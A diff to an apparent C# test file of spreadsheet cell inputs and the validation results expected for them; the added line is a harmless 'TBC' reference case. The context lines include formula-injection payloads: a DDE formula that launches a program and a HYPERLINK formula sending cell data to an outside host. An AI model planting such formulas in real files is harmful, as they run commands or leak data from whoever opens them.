@@ -17,6 +17,7 @@ internal static class Cells
         Since("infinity", "1e400", "row 2, column \"Since\": \"1e400\" is not a date"),
         Since("what Excel shows where the column is too narrow", "########", BadFile.Lands),
         Since("an error of a spreadsheet", "#REF!", "row 2, column \"Since\": the cell has the error #REF!"),
+        BadFile.Of("a number that says nothing", "grants.csv", "Title,Reference,Amount,Funders\nVan,TBC,100,Lark Council\n", "row 2, column \"Reference\": nothing in it tells the row from others"),
         Named("a formula that opens a program", "=cmd|' /C calc'!A0", "row 2, column \"Organisation B\": it names several organisations"),
         Named("a formula that sends cells away", "=HYPERLINK(\"\"http://example.org?x=\"\"&A1)", BadFile.Lands),
         Named("a plus", "+1+2", BadFile.Lands),
